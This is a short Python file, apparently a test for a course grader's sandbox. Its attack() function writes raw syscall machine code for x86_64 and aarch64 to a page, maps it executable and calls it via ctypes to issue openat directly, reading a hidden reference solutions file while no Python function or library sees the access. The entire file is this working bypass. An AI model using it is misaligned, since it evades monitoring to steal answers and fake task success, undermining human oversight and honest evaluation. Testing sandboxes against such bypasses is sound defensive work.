"""Runs machine code of its own that opens the reference: no Python function and no library sees it."""
import ctypes
import mmap
import os

# syscall(number, a, b, c, d), as every C library has it.
CODE = {
    "x86_64": bytes.fromhex("4889f8 4889f7 4889d6 4889ca 4d89c2 0f05 c3"),
    "aarch64": b"".join(word.to_bytes(4, "little") for word in (
        0xAA0003E8, 0xAA0103E0, 0xAA0203E1, 0xAA0303E2, 0xAA0403E3, 0xD4000001, 0xD65F03C0)),
}
OPENAT = {"x86_64": 257, "aarch64": 56}

def attack():
    machine = os.uname().machine
    with open("code", "w+b") as file:
        file.write(CODE[machine].ljust(mmap.PAGESIZE, b"\0"))
        file.flush()
        protection = mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC
        code = mmap.mmap(file.fileno(), mmap.PAGESIZE, mmap.MAP_PRIVATE, protection)
    call = ctypes.CFUNCTYPE(*[ctypes.c_long] * 6)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
    path = ctypes.create_string_buffer(b"@COURSE@/solutions/01_vectors/vectors.py")
    descriptor = call(OPENAT[machine], -100, ctypes.addressof(path), os.O_RDONLY, 0)
    if descriptor < 0:
        raise OSError(-descriptor, os.strerror(-descriptor))
    return os.read(descriptor, 4096)
